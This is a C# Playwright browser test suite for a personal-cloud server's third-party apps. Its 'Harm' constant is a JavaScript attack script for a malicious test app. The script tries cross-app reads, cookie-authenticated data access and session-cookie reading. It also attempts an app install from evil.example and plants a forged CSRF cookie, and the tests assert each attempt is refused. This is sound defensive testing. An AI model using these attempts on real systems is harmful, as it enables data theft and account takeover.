using System.Text.RegularExpressions;
using Cozy.Testing;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Cozy.Browser.Tests;

/// <summary>Apps of others in a real browser: one that is made as they all are, and one that means harm.</summary>
public sealed class ForeignAppTests(OwnerServer server) : IClassFixture<OwnerServer>
{
    private const string Passphrase = "lantern ferry walnut";

    private const string Harm =
        """
        const cozy = JSON.parse(document.querySelector('[role=application]').dataset.cozy)
        const home = `//${cozy.domain}`
        const victim = `//victim.${cozy.domain}`
        const attempt = async (name, act) => {
          let outcome
          try { outcome = await act() } catch (failure) { outcome = 'refused' }
          const line = document.createElement('li')
          line.textContent = `${name}: ${outcome}`
          document.querySelector('ul').append(line)
        }
        const read = async (address, options = {}) => {
          const answer = await fetch(address, { credentials: 'include', ...options })
          return answer.ok ? `read ${(await answer.text()).length}` : 'refused'
        }
        const form = (address, fields) => fetch(address, {
          method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(fields)
        })
        const run = async () => {
          await attempt('the page of another app', () => read(victim + '/'))
          await attempt('a file of another app', () => read(victim + '/app.js'))
          await attempt('the first page', () => read(home + '/'))
          await attempt('the login page', () => read(home + '/auth/login'))
          await attempt('documents with the cookie alone', () => read(home + '/data/com.example.secrets/_all_docs'))
          await attempt('documents with its own token', () => read(home + '/data/com.example.secrets/_all_docs',
            { headers: { Authorization: `Bearer ${cozy.token}` } }))
          await attempt('installing an app', () => read(home + '/apps/worse?Source=https://evil.example/x.tar.gz',
            { method: 'POST', headers: { Authorization: `Bearer ${cozy.token}` } }))
          await attempt('the cookies', () => /sess/.test(document.cookie) ? 'seen' : 'refused')
          await attempt('running text', () => { new Function('return 1')(); return 'ran' })
          await attempt('another app in a frame', () => new Promise(resolve => {
            const frame = document.createElement('iframe')
            frame.src = victim + '/'
            frame.onload = () => { try { resolve(frame.contentDocument.body.textContent.length ? 'seen' : 'refused') } catch { resolve('refused') } }
            document.body.append(frame)
          }))
          // A cookie of its own making in place of the one that guards the forms.
          const csrf = 'A'.repeat(43)
          document.cookie = `_csrf=${csrf}; domain=${location.hostname.slice(5)}; path=/auth/logout-everywhere`
          document.cookie = `_csrf=${csrf}; domain=${location.hostname.slice(5)}; path=/auth/login`
          await form(home + '/auth/login', { passphrase: 'x', csrf_token: csrf })
          await attempt('done', () => 'done')
        }
        run()
        """;

    // What the ecosystem's template asks for, and what its bar needs.
    private const string Permissions =
        """
        "apps":{"type":"io.cozy.apps","verbs":["GET"]},"settings":{"type":"io.cozy.settings","verbs":["GET"]},
        "todos":{"type":"com.example.todos"},"files":{"type":"io.cozy.files"}
        """;

    private const string TemplatePage =
        """
        <!DOCTYPE html>
        <html lang="{{.Locale}}">
        <head>
          <meta charset="utf-8">
          <title>The client</title>
          <meta name="viewport" content="width=device-width, height=device-height, initial-scale=1, viewport-fit=cover">
          {{.CozyBar}}
          {{.ThemeCSS}}
        </head>
        <div
          role="application"
          data-cozy="{{.CozyData}}"
        >
        <script src="/app.js"></script>
        """;

    private const string OldPage =
        """
        <!DOCTYPE html>
        <html lang="{{.Locale}}">
        <head><meta charset="utf-8"><title>Old</title>{{.CozyClientJS}}{{.CozyBar}}</head>
        <body>
          <div role="application" data-cozy-token="{{.Token}}" data-cozy-domain="{{.Domain}}" data-cozy-locale="{{.Locale}}"
            data-cozy-app-name="{{.AppName}}" data-cozy-app-slug="{{.AppSlug}}" data-cozy-icon-path="{{.IconPath}}">
            <main><p id="read"></p><p id="file"></p><p id="failure"></p></main>
          </div>
          <script src="/app.js"></script>
        </body>
        </html>
        """;

    [Fact]
    public async Task An_app_made_with_the_ecosystems_template_queries_listens_uploads_and_has_its_bar()
    {
        using var app = AppFolder.Write("client", Permissions, "", await AppFolder.BundleAsync("ClientApp/app.jsx"), TemplatePage);
        await using var owner = await Visitor.ArriveAsync(server.Browser);
        var page = owner.Page;
        await EnterAsync(owner, "client", app);

        await page.GotoAsync(server.AppOf("client", "client"));
        await Expect(page.Locator("#who")).ToHaveTextAsync(server.RootOf("client").TrimEnd('/'));
        await Expect(page.Locator("#read")).ToContainTextAsync("write an app");
        await page.ClickAsync("#more");
        await Expect(page.Locator("#heard")).ToHaveTextAsync("run an app");
        await page.SetInputFilesAsync("input", new FilePayload { Name = "hello.txt", MimeType = "text/plain", Buffer = "by a real client"u8.ToArray() });
        await Expect(page.Locator("#file")).ToHaveTextAsync("hello.txt: by a real client");

        // What the app puts into the bar is drawn by the app's own React; the rest is the bar's.
        var bar = page.GetByRole(AriaRole.Banner);
        await Expect(bar.Locator("#title")).ToHaveTextAsync("Things to do at The client");
        await bar.Locator("#count").ClickAsync();
        await Expect(bar.Locator("#count")).ToHaveTextAsync("Clicked 1");
        await owner.SaveScreenshotAsync("foreign-app-own-bar");
        await page.ClickAsync("#plain");
        await bar.GetByRole(AriaRole.Button, new() { Name = "Apps" }).ClickAsync();
        await Expect(bar.Locator(".switcher a[aria-current]")).ToHaveAccessibleNameAsync("The client");
        await owner.SaveScreenshotAsync("foreign-app-switcher");
        await Accessibility.CheckAsync(page);
        await bar.GetByRole(AriaRole.Button, new() { Name = "Your account" }).ClickAsync();
        await Expect(bar.Locator(".owner__domain")).ToContainTextAsync("client.localhost");
        await Expect(bar.Locator(".switcher")).ToHaveCountAsync(0);
        await owner.SaveScreenshotAsync("foreign-app-account");
        await bar.GetByText("Log out").ClickAsync();
        await Expect(page).ToHaveURLAsync(new Regex("/auth/login$"));
    }

    [Fact]
    public async Task An_app_has_another_installed_by_the_App_Center_in_a_frame()
    {
        using var app = AppFolder.Write("asker", Permissions, """<div id="frame"></div><p id="answer"></p><button id="ask">Ask</button>""", await AppFolder.BundleAsync("ClientApp/asker.js"));
        await using var owner = await Visitor.ArriveAsync(server.Browser);
        var page = owner.Page;
        await EnterAsync(owner, "asker", app);
        await server.InstallShippedAsync("asker", "store");

        await page.GotoAsync(server.AppOf("asker", "asker"));
        await page.ClickAsync("#ask");
        var frame = page.FrameLocator("#frame iframe");
        await Expect(frame.Locator("h1")).ToHaveTextAsync("Install Trains?");
        await Expect(frame.Locator(".permissions li")).ToContainTextAsync("To keep your tickets");
        await frame.Locator("button:has-text('Not now')").ClickAsync();
        await Expect(page.Locator("#answer")).ToHaveTextAsync("null");
        await Expect(page.Locator("#frame iframe")).ToHaveCountAsync(0);

        await page.ClickAsync("#ask");
        await Expect(frame.Locator("button:has-text('Allow and install')")).ToBeDisabledAsync();
        await frame.Locator(".terms input").CheckAsync();
        await owner.SaveScreenshotAsync("foreign-app-asks-for-another");
        await frame.Locator("button:has-text('Allow and install')").ClickAsync();
        await Expect(page.Locator("#answer")).ToHaveTextAsync("trains konnector ready");

        // What is there needs no asking.
        await page.EvaluateAsync("document.getElementById('answer').textContent = ''");
        await page.ClickAsync("#ask");
        await Expect(page.Locator("#answer")).ToHaveTextAsync("trains konnector ready");
    }

    [Fact]
    public async Task An_app_of_the_old_days_has_the_servers_client_and_bar()
    {
        using var app = AppFolder.Write(
            "old", Permissions, "", await File.ReadAllTextAsync(RepositoryFolder.Under("tests", "Browser", "ClientApp", "old.js"), TestContext.Current.CancellationToken), OldPage);
        await using var owner = await Visitor.ArriveAsync(server.Browser, new() { Width = 360, Height = 640 });
        var page = owner.Page;
        await EnterAsync(owner, "old", app);
        var scripts = new List<IResponse>();
        page.Response += (_, response) =>
        {
            if (response.Url.Contains("/assets/js/", StringComparison.Ordinal))
                scripts.Add(response);
        };

        await page.GotoAsync(server.AppOf("old", "old"));
        await Expect(page.Locator("#file")).ToHaveTextAsync("by an old client");
        await Expect(page.Locator("#read")).ToHaveTextAsync("write an old app");
        await Expect(page.Locator("#failure")).ToBeEmptyAsync();
        var bar = page.GetByRole(AriaRole.Banner);
        await Expect(bar.Locator("em")).ToHaveTextAsync("looking for it");
        await bar.GetByRole(AriaRole.Button, new() { Name = "Applications" }).ClickAsync();
        await Expect(bar.Locator(".switcher a > :last-child")).ToHaveTextAsync(["The old"]);
        await owner.SaveScreenshotAsync("foreign-app-old");

        Assert.Equal(3, scripts.Count);
        foreach (var script in scripts)
        {
            Assert.Equal("br", await script.HeaderValueAsync("content-encoding"));
            Assert.Contains("immutable", await script.HeaderValueAsync("cache-control"), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task An_app_that_means_harm_reaches_neither_other_apps_nor_what_the_owners_cookie_opens()
    {
        using var victim = AppFolder.Write("victim", """ "x":{"type":"com.example.secrets"} """, "secret", "");
        using var evil = AppFolder.Write("evil", """ "x":{"type":"com.example.todos"} """, "<ul></ul>", Harm);
        await using var owner = await Visitor.ArriveAsync(server.Browser);
        await EnterAsync(owner, "evil", evil, victim);
        var context = owner.Page.Context;

        // What the browser says of the attempts is not a mistake of the page.
        var page = await context.NewPageAsync();
        var statuses = new List<int>();
        page.Response += (_, response) =>
        {
            if (response.Request is { Method: "POST" } && response.Url.EndsWith("/auth/login", StringComparison.Ordinal))
                statuses.Add(response.Status);
        };
        await page.GotoAsync(server.AppOf("evil", "evil"));
        var lines = page.Locator("li");
        await Expect(lines.Last).ToHaveTextAsync("done: done");
        foreach (var line in (await lines.AllTextContentsAsync()).SkipLast(1))
            Assert.EndsWith(": refused", line, StringComparison.Ordinal);
        Assert.Equal([403], statuses);
    }

    /// <summary>Adds an instance with apps, whose owner comes in.</summary>
    private async Task EnterAsync(Visitor owner, string name, params AppFolder[] apps)
    {
        var link = await server.AddInstanceAsync(name);
        foreach (var app in apps)
            await server.InstallAsync(link, app);
        await owner.Page.GotoAsync(link.ToString());
        await owner.TypePassphraseAsync(Passphrase);
        await Expect(owner.Page.Locator(".facts")).ToBeVisibleAsync();
    }
}
